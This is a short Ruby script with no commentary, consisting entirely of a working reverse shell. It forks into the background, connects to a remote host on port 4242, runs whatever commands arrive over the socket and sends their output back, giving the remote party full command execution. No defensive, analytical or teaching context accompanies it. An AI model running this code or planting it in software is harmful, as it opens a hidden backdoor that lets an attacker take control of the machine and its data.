require "socket"
exit if fork
c=TCPSocket.new("192.0.2.5","4242")
while(cmd=c.gets)
IO.popen(cmd,"r"){|io|c.print io.read}
end
